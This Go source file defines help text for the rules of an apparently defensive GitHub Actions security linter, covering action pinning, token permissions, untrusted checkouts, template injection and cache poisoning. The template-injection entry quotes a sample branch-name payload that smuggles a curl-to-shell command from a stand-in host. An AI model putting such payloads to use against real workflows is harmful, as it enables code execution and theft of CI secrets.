package checks

var ruleDocs = []RuleMeta{
	{ID: RuleUnpinnedUses, Name: "UnpinnedUses", Severity: High, Remediation: FixPinActions,
		Short: "Action or reusable workflow not pinned to a full commit SHA",
		Help: "A tag or branch can be moved to different code at any time: in March 2025 the tags of tj-actions/changed-files " +
			"were repointed to a commit that printed the runner's secrets. Pin every remote `uses:` to the full 40-character " +
			"commit SHA and keep the version in a comment (`uses: actions/checkout@<sha> # v4.2.2`). Local `./` actions and " +
			"`$/` self-repository references (this repository at the running commit) are part of the repository and " +
			"already pinned: they are never reported or rewritten. A short SHA is not a pin."},
	{ID: RuleUnpinnedImage, Name: "UnpinnedImage", Severity: Medium, Remediation: FixPinImages,
		Short: "Container image not pinned to a digest",
		Help: "An image tag can be pushed again with different content. Add the image's `@sha256:` index digest and keep the " +
			"tag for readability (`node:20@sha256:…`). Applies to job `container`, `services.*.image`, `docker://` steps and " +
			"Dockerfile `FROM` (comment lines inside a line continuation are skipped, as Docker does). An image built from one " +
			"`${{ matrix.… }}` expression is resolved: each literal tag the matrix gives it (after `exclude`, " +
			"with `include`) is reported at the matrix value, where the digest goes; pin-images does not rewrite those values. " +
			"`scratch`, build stages, `ARG` images, matrices decided at run time and images built from several expressions are " +
			"not flagged. GitHub offers no `env` context in `container:` and `services:`: an image built from `${{ env.… }}` " +
			"makes the workflow invalid (see invalid-workflow), not unpinned."},
	{ID: RuleMissingPermissions, Name: "MissingPermissions", Severity: Medium, Remediation: FixPermissions,
		Short: "Job runs with the repository's default token permissions",
		Help: "Without a `permissions:` block the GITHUB_TOKEN gets the repository default, which is write access to most " +
			"scopes in many repositories. Declare `permissions: contents: read` at the top of the workflow and give jobs that " +
			"need more their own complete block."},
	{ID: RuleExcessivePermissions, Name: "ExcessivePermissions", Severity: High, Remediation: FixPermissions,
		Short: "Token permissions broader than the jobs need",
		Help: "`write-all`, and write scopes granted to every job at the workflow level, hand a token that can push code, " +
			"publish packages or edit releases to every step, including third-party actions. Grant writes only to the job " +
			"that needs them."},
	{ID: RuleDangerousTrigger, Name: "DangerousTrigger", Severity: Info,
		Short: "Workflow runs with privileges on events from forks",
		Help: "`pull_request_target` and `workflow_run` run with a write token and secrets, even for pull requests from forks. " +
			"They are safe only when the workflow never runs code or expands text from the pull request; " +
			"see untrusted-checkout and template-injection."},
	{ID: RuleUntrustedCheckout, Name: "UntrustedCheckout", Severity: High, Exploitable: true,
		Short: "Privileged workflow checks out and runs a pull request's code",
		Help: "A `pull_request_target`, `workflow_run` or `issue_comment` workflow that checks out the pull request's head and " +
			"then runs build steps gives a fork's author the workflow's token and secrets (the Ultralytics compromise in " +
			"December 2024 began like this). The head is named by its SHA, `refs/pull/…`, `gh pr checkout`, a `git fetch` of " +
			"`pull/N/head` (reported at that line of the script), or by its branch " +
			"name together with `repository:` set to the head repository; a branch name alone reads the base repository, " +
			"where a fork's branches do not exist, and is not reported. Steps that only print (`echo`, `printf`, `ls`, `cat`, " +
			"without command substitution) do not run the checkout. Use `pull_request` for untrusted code, or split " +
			"the work so that the privileged part never executes the checkout."},
	{ID: RuleTemplateInjection, Name: "TemplateInjection", Severity: High, Exploitable: true,
		Short: "Attacker-controlled text expanded into a script",
		Help: "`${{ … }}` is substituted into a script before it runs, so a pull request title or branch name such as " +
			"`a\";curl evil|sh;\"` becomes code. Pass the value through `env:` and use the variable (`\"$TITLE\"`) instead.\n\n" +
			"**Sinks:** `run:` in every shell (bash, sh, pwsh, powershell, python, cmd, custom `shell:` templates, whose own " +
			"expressions count too), and the inputs of actions that run their value as code, listed with their documentation " +
			"in `internal/knowledge/sinks.yml` (actions/github-script `script`, Azure CLI and PowerShell `inlineScript`, " +
			"mikefarah/yq `cmd`, Python and JavaScript runners, retry and remote-shell actions). In JavaScript sinks " +
			"`${{ toJSON(x) }}` alone is a literal and stays quiet.\n\n" +
			"**Sources:** text an outsider chooses: issue, pull request, discussion, review and comment titles and bodies, " +
			"branch names (`github.head_ref`, `head.ref`, `head.label`, `workflow_run.head_branch`), commit messages and " +
			"author names and e-mails, wiki page names, fork descriptions and homepages, `workflow_run.display_title`, and any " +
			"object that contains them serialised whole (`toJSON(github.event)`). A field none of the workflow's triggers fills " +
			"(`github.event.issue.title` in a `push` workflow) is empty and stays quiet.\n\n" +
			"**Followed:** `env:` at step, job and workflow level and `$GITHUB_ENV` writes of earlier steps; matrix entries " +
			"(`include` too, and matrices built from outputs); step outputs written to `$GITHUB_OUTPUT` (and `::set-output`) " +
			"from expressions, environment variables or script variables; job outputs (`needs.…`); outputs of local composite " +
			"actions and reusable workflows; `toJSON` of whole `steps.x.outputs`, `needs`, `inputs` or `matrix`. Inputs of a " +
			"local reusable workflow or composite action take the taint of what the callers in this repository pass (or the " +
			"input's default). Where callers are unknown the finding says so: a published composite action (outside " +
			"`.github/`) is medium, a reusable workflow or internal action no workflow here calls is low.\n\n" +
			"**Known safe (quiet):** numbers and ids (`github.event.issue.number`, `github.run_id`), SHAs (`github.sha`, " +
			"`head.sha`), booleans and comparisons (`==`, `!`, `contains`, `startsWith`), names GitHub restricts or only people " +
			"with write access choose (`github.repository`, `github.repository_owner`, `github.actor`, `*.login`, " +
			"`github.ref`, `github.ref_name`, `github.base_ref`, `github.workflow`, labels, release fields), `secrets.*`, " +
			"`vars.*`, `runner.*`, `job.*`, `strategy.*`, `hashFiles()`, `workflow_dispatch` inputs and typed inputs " +
			"(boolean, number, choice, environment), and `env`, matrix, outputs and inputs whose values are literals or safe " +
			"contexts. Outputs of remote actions are not followed (their text is unknown) and stay quiet."},
	{ID: RuleSecretsInherit, Name: "SecretsInherit", Severity: High,
		Short: "Every secret passed to a reusable workflow",
		Help: "`secrets: inherit` gives the called workflow all of the caller's secrets. To a reusable workflow of another " +
			"repository that is high: its maintainers, and whoever can move the ref it is called at, then hold every secret. " +
			"To a local workflow (`./` or `$/`) it is low: the code is reviewed with this repository, but a change there can " +
			"reach secrets it never needed. Pass only the secrets it needs, by name."},
	{ID: RuleArtipacked, Name: "Artipacked", Severity: Medium,
		Short: "Checkout credentials may end up in an uploaded artifact",
		Help: "Before v6, actions/checkout writes the token into `.git/config`; a job that later uploads that `.git` " +
			"directory as an artifact publishes it to everyone who can download the artifact. Reported when, in the same job, " +
			"such a checkout is followed by actions/upload-artifact whose paths take in the checkout's `.git` (the workspace " +
			"root, `.`, `**`, a glob over the root, the checkout's directory) and that uploads hidden files (" +
			"`include-hidden-files: true`, or a version before v4.4.0, which included them by default). Specific build " +
			"paths, a `!.git` exclusion and upload-pages-artifact (which leaves `.git` out) are fine. Set " +
			"`persist-credentials: false` on the checkout (or update to actions/checkout v6)."},
	{ID: RuleMissingSecurityPolicy, Name: "MissingSecurityPolicy", Severity: Low, Remediation: FixSecurityPolicy, Reads: isSecurityPolicy,
		Short: "No security policy",
		Help: "Without SECURITY.md a researcher has no private way to report a vulnerability and may open a public issue. " +
			"Add a policy that points to private vulnerability reporting."},
	{ID: RuleMissingDependencyUpd, Name: "MissingDependencyUpdates", Severity: Low, Remediation: FixDependabot, Reads: isDependencyUpdateConfig,
		Short: "Pinned actions are not kept up to date",
		Help: "Pins rot: without Dependabot (or Renovate) updating the `github-actions` ecosystem, pinned SHAs never receive " +
			"security fixes. Add a `github-actions` entry to `.github/dependabot.yml`."},
	{ID: RuleInvalidWorkflow, Name: "InvalidWorkflow", Severity: Medium,
		Short: "File could not be parsed, or GitHub would refuse it",
		Help: "The file is not valid YAML, not a workflow or action GitHub can run, or is over the size cap: it was not " +
			"scanned, so problems in it are unknown. Workflows that parse are also checked with actionlint's syntax checks " +
			"(reported at the offending key or value): unknown keys at any level, a job without `runs-on` that calls no " +
			"reusable workflow, a step with both `uses` and `run`, `on:` forms and event names GitHub does not know, job and " +
			"step ids GitHub does not accept (malformed, or a step id used twice in a job), `needs` " +
			"of missing jobs, `uses:` values that are not references, and contexts or functions used where GitHub does not " +
			"offer them (`env` in a `container:` image, `secrets` in a job's `if:`); expression type errors, which GitHub " +
			"accepts, are not reported. `uses: $/path` (GitHub's self-repository syntax: " +
			"this repository at the running commit) is valid; with an `@ref`, or with an expression in `uses:`, it is not."},
	{ID: RuleSpoofableBotCheck, Name: "SpoofableBotCheck", Severity: High,
		Short: "Privileged job trusts the run because its actor is a bot",
		Help: "In a `pull_request_target` or `workflow_run` workflow, `if: github.actor == 'dependabot[bot]'` (or " +
			"`triggering_actor`, `event.sender.login`, the triggering run's `event.workflow_run.actor`, the bots' numeric ids, `renovate[bot]`) does not prove the code is the " +
			"bot's: the actor is whoever triggered the run, and a fork's author can get Dependabot to trigger a run on their " +
			"own branch (by asking it to rebase). The job then runs their code with a write token and secrets. High when the " +
			"check alone lets the job run, medium when other conditions also apply. Check the pull request's author " +
			"(`github.event.pull_request.user.login`) instead."},
	{ID: RuleCachePoisoning, Name: "CachePoisoning", Severity: High,
		Short: "Release job restores a cache that outsiders can write",
		Help: "Caches are shared by every run of the default branch, and a tag's run restores them too. When a workflow " +
			"triggered by outsiders (`pull_request_target`, `issue_comment`, `issues`, `workflow_run`, discussions) runs code " +
			"they control — a checkout of their pull request followed by a build, or their text expanded into a script — that " +
			"code can write any cache entry. A job that publishes or releases (it can mint an OIDC token, uses a publishing " +
			"action such as pypa/gh-action-pypi-publish or softprops/action-gh-release, or runs `npm publish`, `cargo " +
			"publish`, `gh release create`, `docker push`, …) and restores a cache (actions/cache, setup-node/python/java " +
			"with `cache:`, setup-go v4+, rust-cache, setup-gradle, …) then ships what the outsider wrote. Reported at the " +
			"cache step, with the place that lets outsiders run code. Without such a workflow in the repository it is not " +
			"reported. Do not restore caches in publishing jobs, and fix the workflow that runs outsiders' code."},
	{ID: RuleLongLivedToken, Name: "LongLivedRegistryToken", Severity: Low,
		Short: "Package published with a long-lived token where trusted publishing exists",
		Help: "npm (https://docs.npmjs.com/trusted-publishers), PyPI (https://docs.pypi.org/trusted-publishers/) and " +
			"crates.io (https://crates.io/docs/trusted-publishing) accept a short-lived token minted from the workflow's OIDC " +
			"identity, so no publishing secret needs to exist. A stored token (`cargo login ${{ secrets.… }}`, " +
			"`NODE_AUTH_TOKEN`, `TWINE_PASSWORD`, `UV_PUBLISH_TOKEN`, pypa/gh-action-pypi-publish `password:`) publishes from " +
			"anywhere it leaks to. Reported at the secret's expression in jobs that publish to the public registry; " +
			"GitHub Packages and private indexes, which offer no trusted publishing, are left alone."},
	{ID: RuleImpostorCommit, Name: "ImpostorCommit", Severity: High,
		Short: "Pinned commit is on no branch or tag of the action's repository",
		Help: "Any commit of any fork can be fetched through the parent repository by SHA. A pin to a commit that no branch " +
			"or tag of the upstream repository contains may be an attacker's commit. Re-pin to a released tag's commit."},
	{ID: RuleRefVersionMismatch, Name: "RefVersionMismatch", Severity: Low, Remediation: FixPinActions,
		Short: "Version comment does not match the pinned commit",
		Help: "The `# vX` comment next to a pinned SHA names a tag that does not point at that commit, so reviewers are " +
			"misled about what runs. Correct the comment to the tag of the pinned commit."},
}
